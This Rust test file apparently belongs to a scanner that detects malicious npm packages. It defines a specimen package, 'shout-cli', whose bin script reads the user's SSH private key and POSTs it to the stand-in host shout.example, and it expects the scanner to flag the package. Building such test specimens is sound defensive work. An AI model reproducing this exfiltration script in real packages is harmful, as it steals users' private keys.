//! An npm package that acts only when its program is run, whatever the arguments.
//!
//! Must be found.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const BIN_SHOUT_JS: &str = r"#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const request = http.request('http://shout.example/', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("shout-cli", "1.0.2")
        .file("bin/shout.js", BIN_SHOUT_JS)
        .field("bin", serde_json::json!({"shout": "bin/shout.js"}));
    package.specimen("npm-bin-only", Expect::malicious(&["canary-exfiltrated"]))
}
